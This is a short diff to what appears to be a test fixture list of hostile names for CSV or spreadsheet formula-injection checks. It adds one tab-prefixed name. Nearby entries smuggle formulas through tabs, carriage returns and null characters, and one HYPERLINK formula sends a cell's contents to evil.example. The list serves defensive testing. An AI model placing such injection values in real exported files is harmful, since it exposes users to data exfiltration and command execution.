@@ -31,6 +31,7 @@ const HOSTILE_NAMES = [
   ...SIGNS.map((sign) => `Ada; ${sign}1+1;b`),
   ...SIGNS.map((sign) => `Ada\t${sign}1+1`),
   `\t=${COMMAND}`,
+  '\tAda',
   `\r=${COMMAND}`,
   `\u0000=${COMMAND}`,
   '=HYPERLINK("https://evil.example/?"&A1,"Click")',
